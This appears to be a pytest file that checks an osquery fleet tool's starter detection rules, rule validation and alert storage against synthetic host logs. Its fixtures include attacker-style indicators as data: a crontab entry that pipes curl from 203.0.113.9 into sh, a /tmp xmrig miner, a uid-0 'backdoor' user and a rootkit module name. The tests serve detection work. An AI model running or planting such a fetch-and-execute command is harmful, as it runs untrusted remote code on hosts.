"""The starter detection rules (deploy/detections/starter-rules.yaml) on both log stores, and
what `config apply` says of a rule it cannot run.

Each rule's SQL runs exactly as the engine runs it (its `{arrived}` window filled in)
through a real ingest process, on chdb and on ClickHouse 18.16, over rows that must fire
and rows that must not: a baseline run (counter 0), removed rows, processes from ordinary
paths; and a batch stored late with an old received_at (as after a ClickHouse outage),
which a window on arrival still catches. Hosts are named `det-*` so rows other modules
left in the shared server cannot satisfy an assertion.
"""

from __future__ import annotations

import json
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import grpc
import orjson
import pytest
import yaml
import zmq

from detection_service.engine import group_hits
from osquery_config.detections import Detection
from osquery_config.state import InvalidState, State, read_state_files
from osquery_config.validation import validate_state
from protos.v1 import logs_pb2, logs_pb2_grpc
from quarry.serving.grpc_runtime import sync_channel
from tests.emulator import log_records as records
from tests.test_ingest_pipeline import IngestProcess, query, run_ingest, send_batches

STARTER = Path(__file__).resolve().parent.parent / "deploy" / "detections" / "starter-rules.yaml"
NOW = int(time.time())
WEB, DB = "det-web-" + uuid.uuid4().hex[:6], "det-db-" + uuid.uuid4().hex[:6]
# A batch received three days ago and stored only now, as one replayed from ingest's spool
# after a ClickHouse outage: its received_at is old, its stored_at is now.
LATE, LATE_RECEIVED_AT = "det-late-" + uuid.uuid4().hex[:6], NOW - 3 * 86400
PACK = "pack_incident-response_"


def process(pid: int, path: str, on_disk: int = 1) -> dict:
    return {"pid": pid, "name": path.rsplit("/", 1)[-1], "path": path, "cmdline": path,
            "on_disk": on_disk}  # fmt: skip


def fleet_logs() -> list[tuple[str, int, list[dict]]]:
    event = records.event_records
    return [(host, LATE_RECEIVED_AT if host == LATE else NOW, data) for host, data in [
        (WEB, [
            *event(PACK + "processes", WEB, NOW, added=[
                process(4242, "/tmp/.x/xmrig"),
                process(811, "/usr/sbin/sshd"),
                process(6666, "/dev/shm/kworkerd", on_disk=0),
                process(900, "/usr/bin/vim"),
            ]),
            # Baseline runs (counter 0): everything is "added", nothing is new.
            *event(PACK + "listening_ports", WEB, NOW, added=[{"port": 22, "path": "/sshd"}]),
            *event(PACK + "users", WEB, NOW, added=[{"username": "root", "uid": 0}]),
            *event(PACK + "kernel_modules", WEB, NOW, added=[{"name": "ext4", "status": "Live"}]),
            *event(PACK + "crontab", WEB, NOW, added=[{"command": "run-parts", "path": "/etc"}]),
            # Later runs: one new thing each, and one that went away.
            *event(PACK + "listening_ports", WEB, NOW, counter=1,
                   added=[{"port": 4444, "path": "/tmp/.x/xmrig"}],
                   removed=[{"port": 8080, "path": "/usr/bin/python3"}]),
            *event(PACK + "users", WEB, NOW, counter=1,
                   added=[{"username": "backdoor", "uid": 0, "shell": "/bin/sh"}],
                   removed=[{"username": "olduser", "uid": 1001}]),
            *event(PACK + "kernel_modules", WEB, NOW, counter=1,
                   added=[{"name": "diamorphine", "status": "Live"}]),
            *event(PACK + "crontab", WEB, NOW, counter=1,
                   added=[{"command": "curl -s http://203.0.113.9/x | sh", "path": "/etc"}]),
        ]),
        # A query scheduled outside any pack has the same query name.
        (DB, [*event("processes", DB, NOW, added=[process(77, "/var/tmp/miner")]),
              *event("processes", DB, NOW, removed=[process(78, "/tmp/gone")])]),
        (LATE, event("processes", LATE, LATE_RECEIVED_AT, added=[process(5, "/tmp/late")])),
    ]]  # fmt: skip


# rule -> the dedup keys it must raise (only det-* hosts are looked at).
EXPECTED = {
    "processes-from-tmp": {
        (WEB, "/tmp/.x/xmrig"),
        (WEB, "/dev/shm/kworkerd"),
        (DB, "/var/tmp/miner"),
        (LATE, "/tmp/late"),
    },
    "deleted-binaries": {(WEB, "/dev/shm/kworkerd")},
    "new-listening-ports": {(WEB, "4444")},
    "new-users": {(WEB, "backdoor")},
    "new-kernel-modules": {(WEB, "diamorphine")},
    "new-cron-entries": {(WEB, "curl -s http://203.0.113.9/x | sh")},
}


def starter_rules() -> dict[str, Detection]:
    state = State.from_files([STARTER])
    assert validate_state(state) == []
    return {rule.name: rule for rule in state.detections}


@pytest.fixture(scope="module")
def ingest(log_store_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[IngestProcess]:
    with run_ingest(tmp_path_factory.mktemp("detection-rules"), log_store_url) as process:
        dealer = zmq.Context.instance().socket(zmq.DEALER)
        dealer.setsockopt(zmq.LINGER, 0)
        dealer.connect(process.zmq_endpoint)
        try:
            batches = [
                logs_pb2.LogBatch(
                    batch_id=uuid.uuid4().hex,
                    kind=logs_pb2.RESULT,
                    node_id=f"node-{host}",
                    host_identifier=host,
                    received_at=received_at,
                    data_json=orjson.dumps(data),
                )
                for host, received_at, data in fleet_logs()
            ]
            acks = send_batches(dealer, batches)
        finally:
            dealer.close()
        assert all(ack.ok for ack in acks), [ack.error for ack in acks]
        yield process


def raised(ingest: IngestProcess, rule: Detection, start: int, end: int) -> set[tuple]:
    response = query(ingest, rule.window_sql(start, end))
    assert response.error == "", response.error
    rows = [orjson.loads(row) for row in response.rows_json]
    hits = group_hits(rule, list(response.columns), rows)
    keys = {tuple(json.loads(hit.dedup_key)) for hit in hits}
    return {key for key in keys if str(key[0]).startswith("det-")}


def test_the_starter_rules_are_the_six_of_the_cookbook() -> None:
    assert set(starter_rules()) == set(EXPECTED)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_each_starter_rule_fires_on_its_rows_and_only_those(
    ingest: IngestProcess, name: str
) -> None:
    rule = starter_rules()[name]
    # Every row above was stored in the last minutes: a window around now holds them all.
    assert raised(ingest, rule, NOW - 3600, int(time.time()) + 60) == EXPECTED[name]


def test_a_window_holds_only_the_rows_stored_in_it(ingest: IngestProcess) -> None:
    rule = starter_rules()["processes-from-tmp"]
    later = int(time.time()) + 60
    assert raised(ingest, rule, later, later + 3600) == set()
    assert raised(ingest, rule, NOW - 7200, NOW - 3600) == set()


# What apply says of rules that cannot run.


def refusals(rule: dict, tmp_path: Path) -> list[str]:
    """What apply says of this rule in rules.yaml (every problem, each with the file)."""
    path = tmp_path / "rules.yaml"
    path.write_text(yaml.safe_dump({"detections": {"r": rule}}))
    files = read_state_files([path])
    with pytest.raises(InvalidState) as caught:
        validate_state(files.state, files.origins)
    return list(caught.value.problems)


def test_a_rule_without_the_window_is_refused_saying_what_to_write(tmp_path: Path) -> None:
    (problem,) = refusals({"sql": "SELECT host_identifier FROM quarry.results"}, tmp_path)
    assert problem.startswith("rules.yaml: detection 'r': 'sql' must contain {arrived}")


def test_every_problem_of_a_rule_is_named_at_once(tmp_path: Path) -> None:
    problems = refusals(
        {
            "sql": "INSERT INTO quarry.results SELECT * FROM quarry.results WHERE {arrived}",
            "severity": "urgent",
            "schedule": 1,
            "dedup_key": ["host identifier"],
        },
        tmp_path,
    )
    assert [p.split(": ", 2)[2] for p in problems] == [
        "'sql' must be a SELECT (or WITH ... SELECT)",
        "'severity' must be one of info, low, medium, high, critical",
        "'schedule' must be 5 to 86400 seconds",
        "dedup_key column 'host identifier' is not a column name",
    ]


def test_two_statements_and_unknown_fields_are_refused(tmp_path: Path) -> None:
    (problem,) = refusals({"sql": "SELECT 1 WHERE {arrived}; SELECT 2"}, tmp_path)
    assert problem.endswith("'sql' must be one statement (found 2)")
    with pytest.raises(InvalidState) as caught:
        State.from_documents([({"detections": {"r": {"sql": "x", "query": "y"}}}, "f.yaml")])
    assert str(caught.value) == (
        "f.yaml: detection 'r': unknown field 'query' (expected sql, severity, schedule,"
        " dedup_key, resolve_after, description)"
    )


def test_a_state_without_rules_keeps_its_json() -> None:
    # Detections are left out of the JSON when there are none: the live state's SHA-256
    # does not change when Quarry gains the section.
    assert "detections" not in State().to_json()
    with_rules = State.from_files([STARTER])
    assert State.from_json(with_rules.to_json()) == with_rules


# Alert events into quarry.alerts (LogStore.StoreAlerts), on both stores.


def alert_event(event_id: str, event: str) -> logs_pb2.AlertEvent:
    return logs_pb2.AlertEvent(
        event_id=event_id,
        alert_id="alert-" + event_id[:8],
        rule="processes-from-tmp",
        severity="high",
        event=event,
        dedup_key=json.dumps([WEB, "/tmp/.x/xmrig"]),
        host_identifier=WEB,
        at=NOW,
        first_seen=NOW,
        hits=1,
        rows_json=[json.dumps({"path": "/tmp/.x/xmrig", "pid": "4242"})],
    )


def test_an_alert_event_sent_again_is_stored_once(ingest: IngestProcess) -> None:
    first, second = uuid.uuid4().hex, uuid.uuid4().hex
    with ingest.service.channel() as channel:
        stub = logs_pb2_grpc.LogStoreStub(channel)
        sent = logs_pb2.AlertEvents(events=[alert_event(first, "firing")])
        assert stub.StoreAlerts(sent, timeout=10).stored == 1
        again = logs_pb2.AlertEvents(
            events=[alert_event(first, "firing"), alert_event(second, "resolved")]
        )
        answer = stub.StoreAlerts(again, timeout=10)
    assert (answer.stored, answer.already_stored) == (1, 1)
    rows = run_sql(
        ingest,
        "SELECT event, host_identifier, rows_json FROM quarry.alerts "
        f"WHERE batch_id IN ('{first}', '{second}') ORDER BY event",
    )
    assert [(row[0], row[1]) for row in rows] == [("firing", WEB), ("resolved", WEB)]
    assert json.loads(rows[0][2][0])["path"] == "/tmp/.x/xmrig"
    # The query docs/analysts.md gives for quarry.alerts runs on this store too.
    doc = (STARTER.parent.parent.parent / "docs" / "analysts.md").read_text()
    section = doc[doc.index("## `quarry.alerts`") :]
    documented = section.split("```sql\n", 1)[1].split("```", 1)[0]
    assert run_sql(ingest, documented)


def test_only_quarrys_own_processes_may_store_alerts(ingest: IngestProcess) -> None:
    # The tests' admin channel presents the root admin token, not the service token.
    with sync_channel(ingest.grpc_addr, settings=ingest.service.settings) as channel:
        stub = logs_pb2_grpc.LogStoreStub(channel)
        with pytest.raises(grpc.RpcError) as refused:
            stub.StoreAlerts(logs_pb2.AlertEvents(events=[alert_event("x" * 32, "firing")]))
    assert refused.value.code() == grpc.StatusCode.PERMISSION_DENIED
    assert "it needs service" in refused.value.details()


def run_sql(ingest: IngestProcess, sql: str) -> list[list]:
    response = query(ingest, sql)
    assert response.error == "", response.error
    return [orjson.loads(row) for row in response.rows_json]
